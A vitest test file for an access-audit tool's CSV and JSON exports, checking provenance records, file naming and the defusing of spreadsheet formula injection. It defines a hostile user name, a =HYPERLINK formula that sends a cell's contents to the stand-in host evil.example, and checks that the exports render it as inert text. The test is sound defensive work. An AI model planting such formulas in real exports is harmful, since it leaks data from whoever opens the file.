// What an auditor is handed: each export's CSV is plain data with no runnable cell and readable
// citations; its JSON twin carries the provenance; the file names say platform, snapshot, scope, date.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { SnapshotInfo } from '../../shared/api';
import { APP_NAME, APP_VERSION } from '../../shared/app-info';
import { accessExport, accessJson, matrixExport, whoCanExport } from '../../shared/engine/answer-export';
import { accessMatrix, effectiveAccess, whoCan, type Evaluator } from '../../shared/engine/evaluate';
import { memoryView } from '../../shared/engine/memory-view';
import { resolveModel } from '../../shared/model/resolve';
import { getModel } from '../../shared/models';
import { buildProvenance, exportFileName } from '../../shared/provenance';
import packageJson from '../../package.json';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

const snapshot: SnapshotInfo = {
  id: 3,
  name: 'Q4 review',
  platform: 'huntress',
  modelVersion: '2022-06',
  model: { origin: 'built-in', name: 'Huntress', sha256: null, fileName: null },
  asOf: '2026-11-30',
  importedAt: '2026-11-30T09:15:00.000Z',
  files: [{ name: 'huntress-users.csv', sha256: 'c0ffee'.padEnd(64, '0'), size: 1234, rows: 2, encoding: 'utf-8' }],
  userCount: 2,
  nodeCount: 2,
  assignmentCount: 2,
};

const ev: Evaluator = {
  model: resolveModel(getModel('huntress'), '2022-06'),
  view: memoryView({
    nodes: [
      { id: 1, parentId: null, depth: 0, name: 'Northwind MSP', path: 'Northwind MSP' },
      { id: 2, parentId: 1, depth: 1, name: 'Bayside Dental', path: 'Northwind MSP/Bayside Dental' },
    ],
    users: [
      { id: 1, email: 'mallory@bayside.example', name: HOSTILE },
      { id: 2, email: 'ada@northwind.example', name: 'Ada, Admin', status: 'suspended', mfa: 'disabled' },
    ],
    assignments: [
      { id: 1, userId: 1, nodeId: 2, roleId: 'org-admin', sourceFile: 'huntress-users.csv', sourceLine: 2 },
      { id: 2, userId: 2, nodeId: 1, roleId: 'account-admin', sourceFile: 'huntress-users.csv', sourceLine: 3 },
    ],
  }),
};

const at = new Date('2026-12-01T08:30:00.000Z');
const parse = (text: string) => Papa.parse<Record<string, string>>(text, { header: true, newline: '\r\n', skipEmptyLines: true }).data;

describe('provenance', () => {
  it('names the snapshot, its source files with SHA-256, the question, the UTC time and the app', () => {
    const p = buildProvenance(
      snapshot,
      { kind: 'matrix', scope: 'Northwind MSP', filters: { categories: ['Billing'], role: null, search: '' } },
      at,
    );
    expect(p).toEqual({
      generator: { name: 'Permission Auditor', version: packageJson.version },
      generatedAt: '2026-12-01T08:30:00.000Z',
      snapshot: {
        id: 3,
        name: 'Q4 review',
        importedAt: '2026-11-30T09:15:00.000Z',
        platform: 'huntress',
        platformName: 'Huntress',
        modelVersion: '2022-06',
        model: { origin: 'built-in', name: 'Huntress', sha256: null, fileName: null },
        asOf: '2026-11-30',
      },
      sourceFiles: [{ name: 'huntress-users.csv', sha256: 'c0ffee'.padEnd(64, '0'), size: 1234, rows: 2, encoding: 'utf-8' }],
      question: {
        kind: 'matrix',
        permission: null,
        scope: 'Northwind MSP',
        channel: null,
        email: null,
        filters: { categories: ['Billing'] },
      },
    });
    expect([APP_NAME, APP_VERSION]).toEqual(['Permission Auditor', packageJson.version]);
  });

  it('names export files by platform, snapshot, scope, subject and day', () => {
    expect(
      exportFileName(snapshot, { scope: 'Northwind MSP/Bayside Dental', subject: 'who-can-Approve Assisted Remediation' }, at, 'csv'),
    ).toBe('huntress-snapshot-3-northwind-msp-bayside-dental-who-can-approve-assisted-remediation-2026-12-01.csv');
    expect(exportFileName(snapshot, { subject: 'access-matrix' }, at, 'json')).toBe('huntress-snapshot-3-access-matrix-2026-12-01.json');
  });
});

describe('who-can export', () => {
  const answered = { snapshot, answer: whoCan(ev, 'Approve Assisted Remediation', 'Northwind MSP/Bayside Dental') };
  const files = whoCanExport(answered, at);

  it('writes a hostile name so a spreadsheet shows it as text, and cites the vendor page by title and line', () => {
    expect(files.csv.name).toBe('huntress-snapshot-3-northwind-msp-bayside-dental-who-can-approve-assisted-remediation-2026-12-01.csv');
    expect(files.csv.text).not.toMatch(/(^|,)=HYPERLINK/m);
    const rows = parse(files.csv.text);
    expect(rows.map((r) => [r.email, r.name, r.status, r.mfa, r.role, r.import_row])).toEqual([
      // People order is by name: the hostile one starts with "=", which sorts before the letters.
      ['mallory@bayside.example', `'${HOSTILE}`, 'unknown', 'unknown', 'Admin · organization', 'huntress-users.csv:2'],
      ['ada@northwind.example', 'Ada, Admin', 'suspended', 'disabled', 'Admin · account', 'huntress-users.csv:3'],
    ]);
    expect(rows[0].grant_source).toMatch(/^Huntress — “Setting Huntress User Permissions”, lines? \d+/);
    expect(files.csv.text).not.toContain('000_96d95d6678d9722e.txt');
  });

  it('has a JSON twin with the provenance of the question and cited grant sources', () => {
    const json = JSON.parse(files.json.text);
    expect(files.json.name).toBe(files.csv.name.replace(/\.csv$/, '.json'));
    expect(json.provenance.question).toEqual({
      kind: 'who-can',
      permission: 'remediation.approve',
      scope: 'Northwind MSP/Bayside Dental',
      channel: null,
      email: null,
      filters: {},
    });
    expect(json.provenance.snapshot.id).toBe(3);
    expect(json.provenance.sourceFiles[0].sha256).toBe(snapshot.files[0].sha256);
    expect(json.provenance.generatedAt).toBe('2026-12-01T08:30:00.000Z');
    expect(json.entries[0].name).toBe(HOSTILE); // JSON keeps the data exactly
    expect(json.entries[0].grantSource[0]).toMatchObject({
      file: '000_96d95d6678d9722e.txt',
      title: 'Setting Huntress User Permissions',
      platform: 'Huntress',
    });
  });
});

describe("a person's access export", () => {
  const files = accessExport({ snapshot, answer: effectiveAccess(ev, 'mallory@bayside.example') }, at);
  it('lists each permission with the role, the import row and the vendor citation', () => {
    expect(files.csv.name).toBe('huntress-snapshot-3-access-mallory-bayside-example-2026-12-01.csv');
    const approve = parse(files.csv.text).find((r) => r.permission === 'Approve Assisted Remediation');
    expect(approve).toMatchObject({
      tenant: 'Northwind MSP/Bayside Dental',
      via: 'Admin · organization @ Northwind MSP/Bayside Dental',
      import_rows: 'huntress-users.csv:2',
    });
    expect(approve?.grant_source).toMatch(/^Huntress — “Setting Huntress User Permissions”, line/);
    const json = JSON.parse(files.json.text);
    expect(json.provenance.question).toMatchObject({ kind: 'access', email: 'mallory@bayside.example' });
    expect(json.nodes[0].permissions[0].via[0].grantSource[0].title).toBe('Setting Huntress User Permissions');
  });

  it('is the JSON the CLI prints: the whole answer with its reach, cited, and its provenance', () => {
    const answered = { snapshot, answer: effectiveAccess(ev, 'ada@northwind.example') };
    const json = JSON.parse(accessExport(answered, at).json.text);
    expect(json).toEqual(JSON.parse(JSON.stringify(accessJson(answered, at))));
    expect(json.reachCount).toBe(2);
    expect(json.nodes[0]).toMatchObject({ reachCount: 2, roles: ['Admin · account @ Northwind MSP'] });
  });
});

describe('matrix export', () => {
  it('neutralizes the hostile name in the CSV and records the view’s filters in the JSON', () => {
    const answer = accessMatrix(ev, 'Northwind MSP/Bayside Dental');
    const files = matrixExport(
      { snapshot, answer },
      { channel: 'ui', filters: { categories: ['Remediation'], role: 'Admin', search: ' mall ' } },
      at,
    );
    expect(files.csv.name).toBe('huntress-snapshot-3-northwind-msp-bayside-dental-access-matrix-2026-12-01.csv');
    const rows = parse(files.csv.text);
    expect(rows.find((r) => r.email === 'mallory@bayside.example')?.name).toBe(`'${HOSTILE}`);
    // A suspended account without MFA that still holds admin rights is what a reviewer looks for first.
    expect(rows.find((r) => r.email === 'ada@northwind.example')).toMatchObject({ status: 'suspended', mfa: 'disabled' });
    expect(rows.find((r) => r.email === 'mallory@bayside.example')).toMatchObject({ status: 'unknown', mfa: 'unknown' });
    const json = JSON.parse(files.json.text);
    expect(json.rows[1]).toMatchObject({ email: 'ada@northwind.example', status: 'suspended', mfa: 'disabled' });
    expect(json.rows[0]).not.toHaveProperty('status');
    expect(json.provenance.question).toEqual({
      kind: 'matrix',
      permission: null,
      scope: 'Northwind MSP/Bayside Dental',
      channel: 'ui',
      email: null,
      filters: { categories: ['Remediation'], role: 'Admin', search: 'mall' },
    });
    expect(json.rows.map((r: { email: string }) => r.email)).toEqual(['mallory@bayside.example', 'ada@northwind.example']);
  });
});
